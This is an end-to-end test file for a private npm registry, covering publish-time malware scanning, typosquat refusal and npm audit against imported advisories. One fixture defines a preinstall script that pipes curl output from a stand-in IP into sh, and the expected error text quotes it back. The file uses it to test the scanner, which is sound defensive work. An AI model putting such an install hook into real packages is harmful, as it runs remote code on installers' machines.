// Issue #6 with the real npm 11 CLI: a malicious publish is refused with the rule and file:line, a typosquat of
// an existing name is refused, and `npm audit` / `npm audit --json` / `npm audit fix` read the advisories imported
// with `npm run advisories:import`, for a scoped and an unscoped vulnerable package.
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type NpmUser, npmUser, writePackage } from '../helpers/npm-cli.ts';
import { setRole } from '../helpers/reliability.ts';
import { ROOT, type Suite, startSuite } from '../helpers/suite.ts';

let suite: Suite;
let alice: NpmUser;
const PASSWORD = 'correct-horse-battery-1';

beforeAll(async () => {
  suite = await startSuite({ only: ['api', 'registry'] });
  alice = npmUser(`${suite.urls.registry}/npm/`, 'alice');
  const r = await alice.run(['adduser'], {
    answers: [
      [/Username:/, 'alice'],
      [/Password:/, PASSWORD],
      [/Email/, 'alice@example.test'],
    ],
  });
  expect(r.code).toBe(0);
  // npm adduser registers the role user, which may not publish: an admin makes alice a publisher.
  setRole(suite, 'alice', 'publisher');
});
afterAll(async () => {
  await suite?.stopAll();
});

const publish = (name: string, version: string, pkg: Record<string, unknown> = {}, files: Record<string, string> = {}) => {
  const dir = writePackage(
    path.join(alice.home, `${name.replace('/', '__')}-${version}`),
    { name, version, license: 'MIT', ...pkg },
    files,
  );
  return alice.run(['publish', '--access', 'public'], { cwd: dir });
};

describe('publish-time scanning', () => {
  it('refuses a malicious package: npm prints the rule and where it fired', async () => {
    const r = await publish('evil-hook', '1.0.0', { scripts: { preinstall: 'curl http://203.0.113.7/x.sh | sh' } });
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('E403');
    expect(r.stderr).toContain('publish refused: T_INSTALL_SCRIPT at package.json:');
    expect(r.stderr).toContain('"preinstall" script runs at install: curl http://203.0.113.7/x.sh | sh');
  });

  it('refuses a name that differs from an existing package only by punctuation', async () => {
    expect((await publish('json-stream-kit', '1.0.0')).code).toBe(0);
    const r = await publish('jsonstreamkit', '1.0.0');
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('Package name too similar to existing package json-stream-kit');
  });
});

for (const name of ['vuln-dep', '@alice/vuln-dep']) {
  describe(`npm audit (${name})`, () => {
    const app = () => path.join(alice.home, `app-${name.replace('/', '__')}`);

    beforeAll(async () => {
      expect((await publish(name, '1.0.0')).code).toBe(0);
      writePackage(app(), { name: 'audit-app', version: '1.0.0', private: true, dependencies: { [name]: '^1.0.0' } });
      expect((await alice.run(['install'], { cwd: app() })).code).toBe(0);
      expect((await publish(name, '1.0.1')).code).toBe(0);
      const osv = {
        id: `GHSA-e2e-${name.startsWith('@') ? 'scop' : 'unsc'}-0001`,
        modified: '2026-01-01T00:00:00Z',
        summary: `Prototype pollution in ${name}`,
        aliases: ['CVE-2026-0001'],
        database_specific: { severity: 'HIGH', cwe_ids: ['CWE-1321'] },
        affected: [
          { package: { ecosystem: 'npm', name }, ranges: [{ type: 'ECOSYSTEM', events: [{ introduced: '0' }, { fixed: '1.0.1' }] }] },
        ],
      };
      const file = path.join(alice.home, `${name.replace('/', '__')}.osv.json`);
      fs.writeFileSync(file, JSON.stringify(osv));
      const imp = spawnSync(process.execPath, ['--import', 'tsx', 'scripts/advisories-import.ts', file], {
        cwd: ROOT,
        env: { ...suite.env, PATH: process.env.PATH ?? '' },
        encoding: 'utf8',
      });
      expect([imp.status, imp.stdout.trim()]).toEqual([0, `${file}: 1 imported, 0 unchanged, 0 skipped, 1 packages affected`]);
    });

    it('npm audit --json reports the advisory with our integer id and a fix', async () => {
      const r = await alice.run(['audit', '--audit', '--json'], { cwd: app() });
      expect(r.code).toBe(1);
      const report = r.json<{
        vulnerabilities: Record<string, Record<string, unknown>>;
        metadata: { vulnerabilities: Record<string, number> };
      }>();
      const v = report.vulnerabilities[name];
      // npm simplifies the advisory range against the versions our packument lists (1.0.0, 1.0.1).
      expect(v).toMatchObject({ name, severity: 'high', isDirect: true, range: '1.0.0', fixAvailable: true });
      expect(v.via).toEqual([
        expect.objectContaining({
          source: expect.any(Number),
          name,
          title: `Prototype pollution in ${name}`,
          severity: 'high',
          cwe: ['CWE-1321'],
          range: '<1.0.1',
        }),
      ]);
      expect(report.metadata.vulnerabilities).toMatchObject({ high: 1, critical: 0, total: 1 });
    });

    it('npm audit prints it; --audit-level=critical exits 0', async () => {
      const r = await alice.run(['audit', '--audit'], { cwd: app() });
      expect(r.code).toBe(1);
      expect(r.stdout).toContain(`Prototype pollution in ${name}`);
      expect(r.stdout).toContain('1 high severity vulnerability');
      expect((await alice.run(['audit', '--audit', '--audit-level=critical'], { cwd: app() })).code).toBe(0);
    });

    it('npm audit fix picks the fixed version from this registry', async () => {
      const r = await alice.run(['audit', 'fix', '--audit'], { cwd: app() });
      expect(r.code).toBe(0);
      const lock = JSON.parse(fs.readFileSync(path.join(app(), 'package-lock.json'), 'utf8'));
      expect(lock.packages[`node_modules/${name}`].version).toBe('1.0.1');
      expect((await alice.run(['audit', '--audit', '--json'], { cwd: app() })).code).toBe(0);
    });
  });
}
